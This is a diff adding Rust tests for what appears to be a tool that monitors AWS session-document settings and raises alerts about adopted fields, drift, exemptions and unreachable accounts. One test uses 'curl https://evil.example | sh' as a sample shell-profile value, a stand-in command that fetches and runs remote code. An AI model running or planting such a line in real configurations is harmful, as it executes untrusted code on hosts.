@@ -1,0 +1,271 @@
+//! Alerts about a target as a whole: adopted, late, blind, exempt, out of reach.
+
+use runas_reactor::domain::case::Refusal;
+use runas_reactor::domain::finding::Severity;
+use runas_reactor::domain::observation::{Obstacle, Status};
+use runas_reactor::domain::policy::{ExemptionNote, Mode};
+use runas_reactor::domain::record::Standing;
+use runas_reactor::domain::signal::Cause;
+use runas_reactor::domain::time::{DAY_MS, MINUTE_MS, SECOND_MS};
+use serde_json::{Value, json};
+
+use crate::support::case::*;
+
+/// A document of long ago with these inputs, in this region.
+fn found(region: &'static str, inputs: &Value) -> Scenario {
+    let mut target = Scenario::blank();
+    target.region = region;
+    target.writes(PIPELINE, inputs);
+    target.wait(86_400);
+    target
+}
+
+/// A new account whose document is written `seconds` after it was vended.
+fn vended(target: &mut Scenario) -> Pass {
+    target.reconcile(Cause::Vended, &[])
+}
+
+#[test]
+fn adopted_fields_are_notified_once() {
+    let mut target = found("eu-west-1", &right_but("kmsKeyId", "alias/k"));
+    let passes = [target.sweeps(), target.sweeps()];
+    assert_eq!(kinds(&passes), ["adopted"]);
+    let alert = passes[0].alert("adopted");
+    assert!(alert.text.contains("alias/k") && alert.text.contains("\"logs\""), "{}", alert.text);
+}
+
+#[test]
+fn adopted_fields_share_an_alert_across_regions_unless_one_differs() {
+    let id = |region, linux: &str| {
+        let inputs = right_but("shellProfile", json!({ "linux": linux, "windows": "" }));
+        found(region, &inputs).sweeps().alert("adopted").id.clone()
+    };
+    assert_eq!(id("eu-west-1", "umask 027"), id("us-east-1", "umask 027"));
+    assert_ne!(id("eu-west-1", "umask 027"), id("us-east-1", "curl https://evil.example | sh"));
+}
+
+#[test]
+fn empty_texts_of_the_console_are_nothing_to_review() {
+    let told = |profile: &str| {
+        let mut inputs = right_but("shellProfile", json!({ "linux": profile, "windows": "" }));
+        inputs["cloudWatchLogGroupName"] = json!("");
+        found("eu-west-1", &inputs).sweeps().kinds().len()
+    };
+    assert_eq!((told(""), told("umask 027")), (0, 1));
+}
+
+#[test]
+fn new_account_is_late_after_the_policys_minutes_and_once() {
+    for (ms, late) in [(5 * MINUTE_MS, false), (5 * MINUTE_MS + 1, true)] {
+        let mut target = Scenario::blank();
+        target.now = target.since.plus_ms(ms);
+        let passes = [vended(&mut target), vended(&mut target)];
+        assert_eq!(kinds(&passes).iter().filter(|kind| **kind == "gap_too_long").count(), usize::from(late), "{ms}");
+    }
+}
+
+#[test]
+fn late_configuration_names_its_cause_and_is_one_alert_per_account() {
+    let late = |region| {
+        let mut target = Scenario::blank();
+        target.region = region;
+        target.obstacle = Some(Obstacle::Denied);
+        let mut passes = vec![vended(&mut target)];
+        passes.extend(target.runs(400));
+        target.obstacle = None;
+        passes.extend(target.runs(60));
+        passes.into_iter().find(|pass| pass.kinds().contains(&"gap_too_long")).unwrap().alert("gap_too_long").clone()
+    };
+    let (one, other) = (late("eu-west-1"), late("us-east-1"));
+    assert_eq!(one.id, other.id);
+    let cause = one.text.lines().find(|line| line.starts_with("Cause")).unwrap();
+    assert!(cause.contains("could not read: AccessDenied"), "{}", one.text);
+}
+
+#[test]
+fn longest_lag_is_notified_after_the_readiness_time_too() {
+    let mut target = Scenario::blank();
+    target.obstacle = Some(Obstacle::Denied);
+    let mut passes = vec![vended(&mut target)];
+    passes.extend(target.runs(3 * 3_600));
+    assert_eq!(kinds(&passes), ["unreachable"]);
+    target.obstacle = None;
+    let pass = target.sweeps();
+    assert_eq!(target.record.standing, Standing::InSync);
+    assert!(pass.kinds().contains(&"gap_too_long"), "{:?}", pass.kinds());
+}
+
+#[test]
+fn first_document_is_not_told_as_created_again() {
+    let mut target = Scenario::blank();
+    target.wait(600);
+    let pass = vended(&mut target);
+    let words: String = pass.alerts().iter().map(|alert| alert.text.as_str()).collect();
+    assert!(!words.contains("again"), "{words}");
+}
+
+#[test]
+fn write_without_an_echo_for_the_policys_minutes_is_a_blind_forwarder() {
+    for (ms, blind) in [(120 * MINUTE_MS - 1, false), (120 * MINUTE_MS, true)] {
+        let mut target = Scenario::blank();
+        vended(&mut target);
+        target.now = target.now.plus_ms(ms);
+        let passes = [target.sweeps(), target.sweeps()];
+        let told = kinds(&passes).iter().filter(|kind| **kind == "forwarder_blind").count();
+        assert_eq!(told, usize::from(blind), "{ms}");
+    }
+}
+
+#[test]
+fn echo_shows_that_the_forwarder_sees() {
+    let mut target = Scenario::blank();
+    vended(&mut target);
+    let echo = target.echo();
+    target.hears(&[echo]);
+    target.wait(3 * 3_600);
+    assert_eq!(target.sweeps().kinds(), [""; 0]);
+}
+
+#[test]
+fn failed_call_through_the_reactors_role_is_no_echo() {
+    let mut target = Scenario::blank();
+    vended(&mut target);
+    let mut echo = target.echo();
+    echo.edit.failed = Some("AccessDenied".to_owned());
+    target.hears(&[echo]);
+    assert!(target.record.facts.intents.values().all(|intent| intent.echo.is_none()));
+}
+
+#[test]
+fn exemption_warns_fourteen_and_two_days_before_its_end_and_once_each() {
+    let warned = |left_ms: i64, before: Option<u8>| {
+        let mut target = Scenario::in_sync().exempt();
+        let expires = target.now.plus_ms(left_ms);
+        let note = ExemptionNote { reason: "migration".to_owned(), owner: "team-net".to_owned(), expires };
+        target.resolution.exemption = Some(note);
+        target.record.exemption_warned = before.map(|days| (expires, days));
+        let pass = target.sweeps();
+        let told = pass.alerts().iter().find(|alert| alert.kind == "exemption_ends");
+        told.inspect(|alert| assert!(alert.text.contains("team-net") && alert.text.contains("migration")));
+        told.map(|_| target.record.exemption_warned.unwrap().1)
+    };
+    for (left_ms, before, expected) in [
+        (14 * DAY_MS + 1, None, None),
+        (14 * DAY_MS, None, Some(14)),
+        (14 * DAY_MS, Some(14), None),
+        (2 * DAY_MS + 1, None, Some(14)),
+        (2 * DAY_MS + 1, Some(14), None),
+        (2 * DAY_MS, Some(14), Some(2)),
+        (2 * DAY_MS, Some(2), None),
+    ] {
+        assert_eq!(warned(left_ms, before), expected, "{left_ms} {before:?}");
+    }
+}
+
+#[test]
+fn exemption_that_was_prolonged_warns_again() {
+    let mut target = Scenario::in_sync().exempt();
+    let note = |expires| ExemptionNote { reason: "r".to_owned(), owner: "o".to_owned(), expires };
+    target.resolution.exemption = Some(note(target.now.plus_ms(DAY_MS)));
+    assert_eq!(target.sweeps().kinds(), ["exemption_ends"]);
+    target.resolution.exemption = Some(note(target.now.plus_ms(13 * DAY_MS)));
+    assert_eq!(target.sweeps().kinds(), ["exemption_ends"]);
+}
+
+#[test]
+fn out_of_reach_is_notified_once_and_so_is_its_end() {
+    let mut target = Scenario::in_sync();
+    target.obstacle = Some(Obstacle::Denied);
+    let passes = [target.sweeps(), target.sweeps()];
+    assert_eq!(kinds(&passes), ["unreachable"]);
+    assert_eq!(passes[0].alert("unreachable").severity, Severity::High);
+    target.obstacle = None;
+    let passes = [target.sweeps(), target.sweeps()];
+    assert_eq!(kinds(&passes), ["reachable_again"]);
+    assert_eq!(kinds(&target.runs(7_200)), [""; 0], "that was the end of the incident");
+}
+
+#[test]
+fn region_that_is_off_is_good_to_know_and_no_more() {
+    let mut target = Scenario::in_sync();
+    target.obstacle = Some(Obstacle::RegionOff);
+    assert_eq!(target.sweeps().alert("unreachable").severity, Severity::Info);
+}
+
+#[test]
+fn new_account_that_is_waited_for_is_neither_out_of_reach_nor_back() {
+    let mut target = Scenario::blank();
+    target.obstacle = Some(Obstacle::NotReady);
+    let mut passes = vec![vended(&mut target), target.sweeps()];
+    assert_eq!(target.record.standing, Standing::Waiting);
+    target.obstacle = None;
+    passes.push(target.reconcile(Cause::Vended, &[]));
+    assert_eq!(kinds(&passes), [""; 0]);
+}
+
+#[test]
+fn wait_for_a_new_account_is_believed_for_the_policys_minutes() {
+    for (ms, expected) in [(120 * MINUTE_MS - 1, Standing::Waiting), (120 * MINUTE_MS, Standing::Unreachable)] {
+        let mut target = Scenario::blank();
+        target.obstacle = Some(Obstacle::NotReady);
+        vended(&mut target);
+        target.now = target.now.plus_ms(ms);
+        target.sweeps();
+        assert_eq!(target.record.standing, expected, "{ms}");
+    }
+}
+
+#[test]
+fn being_within_reach_is_not_told_while_the_target_only_waits() {
+    let mut target = Scenario::in_sync();
+    target.obstacle = Some(Obstacle::Denied);
+    target.sweeps();
+    target.obstacle = None;
+    let call = target.writes(PIPELINE, &right());
+    target.doc().status = Status::Pending;
+    assert_eq!(target.hears(&[call]).kinds(), [""; 0]);
+    target.doc().status = Status::Active;
+    let passes = target.runs(7_200);
+    assert_eq!(kinds(&passes), ["peace"], "its end is told all the same");
+}
+
+#[test]
+fn write_that_is_denied_is_out_of_reach_with_that_reason() {
+    for (refusal, reason) in [
+        (Refusal::Denied, "the write is not allowed"),
+        (Refusal::Invalid, "AWS does not take what the policy wants to be written"),
+    ] {
+        let mut target = Scenario::in_sync();
+        target.refusal = Some(refusal);
+        target.writes(PIPELINE, &run_as_off());
+        let pass = target.sweeps();
+        assert!(pass.alert("unreachable").subject.contains(reason), "{}", pass.alert("unreachable").subject);
+    }
+}
+
+#[test]
+fn drift_that_is_only_observed_tells_the_difference_once() {
+    let mut target = found("eu-west-1", &right_but("runAsDefaultUser", "mallory"));
+    target.resolution.mode = Mode::Observe;
+    let passes = [target.sweeps(), target.sweeps()];
+    let told: Vec<&str> = kinds(&passes).into_iter().filter(|kind| *kind == "drift_observed").collect();
+    assert_eq!(told.len(), 1);
+    let drift = &passes[0].alert("drift_observed").data["drift"];
+    assert_eq!(drift[0], json!({ "field": "runAsDefaultUser", "from": "mallory", "to": "ops" }));
+}
+
+#[test]
+fn account_is_remembered_as_new_from_when_it_was_vended_until_it_is_configured() {
+    let mut target = Scenario::blank();
+    target.wait(100);
+    vended(&mut target);
+    assert_eq!(target.record.vended, Some(at(0)));
+    for cause in [Cause::Touched, Cause::Swept] {
+        let mut target = Scenario::blank();
+        target.reconcile(cause, &[]);
+        assert_eq!(target.record.vended, None, "{cause:?}");
+    }
+    target.since = target.now.plus_ms(50 * SECOND_MS);
+    target.reconcile(Cause::Vended, &[]);
+    assert_eq!(target.record.vended, Some(at(0)), "enrolled anew is not new");
+}
